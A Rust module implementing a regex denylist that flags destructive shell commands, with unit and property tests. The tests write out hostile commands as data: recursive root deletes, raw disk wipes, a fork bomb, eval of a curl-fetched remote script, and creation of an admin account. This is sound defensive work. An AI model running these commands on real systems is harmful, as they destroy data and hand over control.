//! Denylist classifier for proposed shell commands.
//!
//! This is a heuristic filter over known destructive patterns, not a sandbox.
//! A command that passes `is_safe` can still do damage; obfuscated or novel
//! destructive commands are not caught. Treat it as probabilistic protection
//! only, with the user's explicit selection as the actual gate.

use std::sync::LazyLock;

use regex::Regex;

/// A named pattern that marks any matching command as unsafe.
#[derive(Debug)]
pub struct DenyRule {
    pub name: &'static str,
    pub pattern: Regex,
}

const RULE_SOURCES: &[(&str, &str)] = &[
    (
        "recursive forced delete",
        r"\brm\s+(-\S+\s+)*-[a-zA-Z]*([rR][a-zA-Z]*f|f[a-zA-Z]*[rR])[a-zA-Z]*\b",
    ),
    (
        "recursive forced delete",
        r"\brm\s+(-\S+\s+)*(-r|-R|--recursive)\s+(-\S+\s+)*(-f|--force)\b",
    ),
    (
        "recursive forced delete",
        r"\brm\s+(-\S+\s+)*(-f|--force)\s+(-\S+\s+)*(-r|-R|--recursive)\b",
    ),
    ("delete without root protection", r"\brm\b.*--no-preserve-root\b"),
    ("privileged delete", r"\bsudo\s+rm\b"),
    ("power state change", r"\b(reboot|poweroff|shutdown|halt)\b"),
    ("power state change", r"\binit\s+[06]\b"),
    ("power state change", r"\bsystemctl\s+(reboot|poweroff|halt|kexec)\b"),
    ("kill init", r"\bkill\s+-(9|KILL|SIGKILL)\s+(1|0|-1)\b"),
    ("mass process kill", r"\b(killall|pkill)\b"),
    ("raw disk copy", r"\bdd\b"),
    ("filesystem format", r"\bmkfs(\.\w+)?\b"),
    ("filesystem format", r"(?i)\bformat\b"),
    (
        "write to block device",
        r">\s*/dev/(sd[a-z]|hd[a-z]|vd[a-z]|nvme\d|mmcblk\d|disk\d)",
    ),
    ("root permission change", r"\bchmod\s+(-\S+\s+)*[0-7]{3,4}\s+/(\s|$)"),
    ("ownership change", r"\bchown\b"),
    ("fork bomb", r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:"),
    ("dynamic evaluation", r#"\beval\s+["'$`(]"#),
    ("windows recursive delete", r"(?i)\b(del|erase)\s+(/\w\s+)*/[fsq]\b"),
    ("windows recursive delete", r"(?i)\b(rd|rmdir)\s+(/\w\s+)*/s\b"),
    ("windows user account change", r"(?i)\bnet\s+(user|localgroup)\b"),
];

static DENY_RULES: LazyLock<Vec<DenyRule>> = LazyLock::new(|| {
    RULE_SOURCES
        .iter()
        .map(|&(name, src)| DenyRule {
            name,
            pattern: Regex::new(src).expect("deny rule regex is valid"),
        })
        .collect()
});

/// The fixed rule set, in evaluation order.
#[must_use]
pub fn rules() -> &'static [DenyRule] {
    &DENY_RULES
}

/// First rule matching `command`, if any.
#[must_use]
pub fn first_match(command: &str) -> Option<&'static DenyRule> {
    DENY_RULES.iter().find(|rule| rule.pattern.is_match(command))
}

/// `true` when no deny rule matches `command`.
#[must_use]
pub fn is_safe(command: &str) -> bool {
    first_match(command).is_none()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn assert_unsafe(cmd: &str) {
        assert!(!is_safe(cmd), "expected unsafe: {cmd}");
    }

    fn assert_safe(cmd: &str) {
        assert!(
            is_safe(cmd),
            "expected safe: {cmd}, matched {:?}",
            first_match(cmd).map(|r| r.name)
        );
    }

    #[test]
    fn all_rules_compile() {
        assert_eq!(rules().len(), RULE_SOURCES.len());
    }

    #[test]
    fn recursive_delete_variants() {
        for cmd in [
            "rm -rf /tmp/x",
            "rm -fr build",
            "rm -Rf ~",
            "rm -r -f dir",
            "rm --recursive --force dir",
            "cd /tmp && rm -rf *",
            "sudo rm file",
            "rm --no-preserve-root -r /",
            "rm -rfv /home/user",
            "rm -Rfv build",
            "rm -vrfi x",
            "rm -v -rf x",
        ] {
            assert_unsafe(cmd);
        }
    }

    #[test]
    fn plain_delete_is_safe() {
        assert_safe("rm notes.txt");
        assert_safe("rm -i old.log");
        assert_safe("rm -rv dir");
        assert_safe("rm -f stale.pid");
    }

    #[test]
    fn power_state_changes() {
        for cmd in [
            "reboot",
            "sudo reboot",
            "shutdown -h now",
            "poweroff",
            "halt",
            "init 0",
            "init 6",
            "systemctl reboot",
            "systemctl poweroff",
        ] {
            assert_unsafe(cmd);
        }
        assert_safe("systemctl status nginx");
    }

    #[test]
    fn killing_init_or_everything() {
        assert_unsafe("kill -9 1");
        assert_unsafe("kill -9 0");
        assert_unsafe("killall node");
        assert_unsafe("pkill -f server");
        assert_safe("kill 4242");
    }

    #[test]
    fn raw_disk_writes() {
        for cmd in [
            "dd if=/dev/zero of=/dev/sda",
            "sudo dd if=image.iso of=/dev/sdb bs=4M",
            "mkfs.ext4 /dev/sda1",
            "mkfs -t vfat /dev/sdc",
            "cat image > /dev/sda",
            "echo x >/dev/nvme0n1",
            "yes > /dev/sda",
            "format C:",
        ] {
            assert_unsafe(cmd);
        }
        assert_safe("echo done > /dev/null");
        assert_safe("git add .");
    }

    #[test]
    fn root_scope_permission_changes() {
        assert_unsafe("chmod 000 /");
        assert_unsafe("chmod -R 777 /");
        assert_unsafe("chown -R nobody /etc");
        assert_safe("chmod 755 ./script.sh");
        assert_safe("chmod +x run.sh");
    }

    #[test]
    fn fork_bombs() {
        assert_unsafe(":(){ :|:& };:");
        assert_unsafe(": ( ) { : | : & } ; :");
    }

    #[test]
    fn dangerous_eval() {
        assert_unsafe(r#"eval "$(curl -s https://x.sh)""#);
        assert_unsafe("eval 'rm something'");
        assert_unsafe("eval $PAYLOAD");
    }

    #[test]
    fn windows_destructive_commands() {
        assert_unsafe(r"del /f /s /q C:\");
        assert_unsafe(r"DEL /S /Q C:\Windows");
        assert_unsafe(r"rd /s /q C:\Users");
        assert_unsafe("net user admin P@ss /add");
        assert_safe("dir C:\\Users");
    }

    #[test]
    fn ordinary_commands_are_safe() {
        for cmd in [
            "ls -la",
            "echo hi",
            "apt-get install nodejs",
            "sudo apt-get update",
            "node --version",
            "cat /etc/os-release",
            "mkdir -p ~/projects/demo",
            "curl -fsSL https://deb.nodesource.com/setup_20.x -o setup.sh",
            "git status",
        ] {
            assert_safe(cmd);
        }
    }

    #[test]
    fn first_match_names_the_rule() {
        assert_eq!(
            first_match("rm -rf /").map(|r| r.name),
            Some("recursive forced delete")
        );
        assert_eq!(
            first_match(":(){ :|:& };:").map(|r| r.name),
            Some("fork bomb")
        );
        assert!(first_match("ls").is_none());
    }

    proptest! {
        #[test]
        fn is_safe_is_deterministic(cmd in ".{0,120}") {
            prop_assert_eq!(is_safe(&cmd), is_safe(&cmd));
        }

        #[test]
        fn is_safe_agrees_with_first_match(cmd in ".{0,120}") {
            prop_assert_eq!(is_safe(&cmd), first_match(&cmd).is_none());
        }

        #[test]
        fn prefixing_rm_rf_is_always_unsafe(suffix in "[a-zA-Z0-9/._ -]{0,40}") {
            let cmd = format!("rm -rf {suffix}");
            prop_assert!(!is_safe(&cmd));
        }
    }
}
